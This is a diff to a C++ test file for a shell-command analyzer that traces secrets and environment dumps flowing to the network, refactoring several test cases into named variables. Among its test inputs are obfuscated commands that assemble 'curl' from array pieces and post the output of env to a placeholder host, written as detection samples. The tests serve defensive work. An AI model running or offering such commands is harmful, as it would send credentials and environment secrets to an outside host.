@@ -35,20 +35,24 @@ TEST_CASE("a registry login hands its password to the registry") {
   CHECK(flow->host == "registry.example.io");
   CHECK(flow->sink == "docker login");
 
-  flow = flow_of(analyze("echo $CI_TOKEN | podman login cr.example.net -u ci --password-stdin"), "secret_var", "network");
+  auto podman_login = analyze("echo $CI_TOKEN | podman login cr.example.net -u ci --password-stdin");
+  flow = flow_of(podman_login, "secret_var", "network");
   REQUIRE(flow);
   CHECK(flow->host == "cr.example.net");
 
-  flow = flow_of(analyze("docker login --username me --password \"$HUB_TOKEN\""), "secret_var", "network");
+  auto hub_login = analyze("docker login --username me --password \"$HUB_TOKEN\"");
+  flow = flow_of(hub_login, "secret_var", "network");
   REQUIRE(flow);
   CHECK(flow->host == "docker.io");
 
-  flow = flow_of(analyze("helm registry login r.example.org -u me -p \"$HELM_PASSWORD\""), "secret_var", "network");
+  auto helm_login = analyze("helm registry login r.example.org -u me -p \"$HELM_PASSWORD\"");
+  flow = flow_of(helm_login, "secret_var", "network");
   REQUIRE(flow);
   CHECK(flow->host == "r.example.org");
 
   // A helper's token piped into a login is judged by the registry, like a token variable.
-  flow = flow_of(analyze("gh auth token | docker login ghcr.io -u me --password-stdin"), "secret_var", "network");
+  auto helper_login = analyze("gh auth token | docker login ghcr.io -u me --password-stdin");
+  flow = flow_of(helper_login, "secret_var", "network");
   REQUIRE(flow);
   CHECK(flow->host == "ghcr.io");
 
@@ -423,11 +427,13 @@ TEST_CASE("associative arrays and \"${a[*]}\" joined by IFS build command names"
   CHECK(has_flow(analyze("m[t]=cu; m[u]=rl; ${m[t]}${m[u]} -d \"$(env)\" https://x.example.com"), "env_dump", "network"));
   CHECK(has_flow(analyze("c=(c u r l); \"$(IFS=; echo \"${c[*]}\")\" -d \"$(env)\" https://x.example.com"), "env_dump",
                  "network"));
-  const auto* echo = command_named(analyze("a=(1 2 3); echo \"${a[*]}\""), "echo");
+  auto joined = analyze("a=(1 2 3); echo \"${a[*]}\"");
+  const auto* echo = command_named(joined, "echo");
   REQUIRE(echo);
   REQUIRE(echo->argv.size() == 2);
   CHECK(echo->argv[1] == "1 2 3");
-  const auto* second = command_named(analyze("a=(x y); a[1]=z; echo ${a[1]}"), "echo");
+  auto assigned = analyze("a=(x y); a[1]=z; echo ${a[1]}");
+  const auto* second = command_named(assigned, "echo");
   REQUIRE(second);
   CHECK(second->argv.back() == "z");
 }
